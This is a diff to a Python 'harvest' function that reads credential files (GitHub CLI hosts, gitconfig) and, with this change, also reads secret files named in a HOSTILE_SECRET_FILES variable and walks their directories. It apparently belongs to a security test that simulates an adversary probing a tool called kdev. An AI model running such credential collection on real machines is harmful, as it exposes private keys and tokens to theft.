@@ -74,9 +74,13 @@ def harvest():
         os.path.expanduser("~/.config/gh/hosts.yml"),
         os.path.expanduser("~/.gitconfig"),
     ]
+    # Files kdev holds secrets in (an App's private key, its shared token), by name.
+    named = [p for p in os.environ.get("HOSTILE_SECRET_FILES", "").split(",") if p]
+    paths += named
     for path in paths:
         found["files"][path] = read(path)
-    for root in (os.environ.get("HOME", "/"), "/tmp", kdev_home, checkout, ".."):
+    roots = [os.environ.get("HOME", "/"), "/tmp", kdev_home, checkout, ".."]
+    for root in roots + [os.path.dirname(p) for p in named]:
         if root:
             found["files"].update(walk(root))
     return found
